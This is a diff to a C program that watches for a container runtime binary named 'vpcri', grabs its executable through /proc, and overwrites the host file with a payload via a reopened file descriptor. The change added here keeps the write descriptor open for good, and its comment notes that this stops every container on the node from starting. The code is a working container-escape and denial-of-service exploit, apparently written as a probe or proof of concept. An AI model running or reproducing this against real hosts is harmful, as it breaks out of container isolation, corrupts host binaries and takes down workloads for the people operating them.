@@ -4,10 +4,13 @@
  *     with that name; then open(/proc/PID/exe, O_PATH) on every round while it lives ("denied
  *     PID COMM ERROR" once when the kernel refuses);
  *   - an exe whose path names a vpcri binary is held ("holding PATH"), once per file;
- *   - every held file is reopened through /proc/self/fd/N for writing with O_TRUNC: ETXTBSY
- *     (still running somewhere) means try again next round; success means the host file is
- *     overwritten ("overwrote PATH"); any other error means the kernel refuses ("refused PATH
- *     ERROR");
+ *   - every held file is reopened through /proc/self/fd/N for writing: ETXTBSY (still running
+ *     somewhere) means try again next round; any other error means the kernel refuses ("refused
+ *     PATH ERROR"). An fd it gets is kept open for good ("holding writer PATH"): as long as a
+ *     file has a writer the kernel refuses to execute it (ETXTBSY), so if that file is what the
+ *     runtime runs for every start, no container on the node starts any more. Then it truncates
+ *     and writes the file: success means the host file is overwritten ("overwrote PATH"),
+ *     failure is reported ("refused PATH write: ERROR");
  *   - "pending N" whenever the number of held files still waiting for their writer changes.
  * With no argument; prints "ready" first. */
 #define _GNU_SOURCE
@@ -105,19 +108,21 @@ static void try_overwrite(void) {
     if (held[i].fd < 0) continue;
     char path[64];
     snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
-    int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+    int w = open(path, O_WRONLY | O_CLOEXEC);
     if (w < 0 && errno == ETXTBSY) {
       pending++;
       continue;
     }
     if (w < 0) {
       printf("refused %s %s\n", held[i].path, strerror(errno));
-    } else if (write(w, payload, sizeof payload - 1) != (ssize_t)(sizeof payload - 1)) {
-      printf("refused %s write: %s\n", held[i].path, strerror(errno));
-      close(w);
     } else {
-      printf("overwrote %s\n", held[i].path);
-      close(w);
+      /* Never closed: a writer alone keeps every later exec of this file failing. */
+      printf("holding writer %s\n", held[i].path);
+      if (ftruncate(w, 0) != 0 || write(w, payload, sizeof payload - 1) != (ssize_t)(sizeof payload - 1)) {
+        printf("refused %s write: %s\n", held[i].path, strerror(errno));
+      } else {
+        printf("overwrote %s\n", held[i].path);
+      }
     }
     close(held[i].fd);
     held[i].fd = -1;
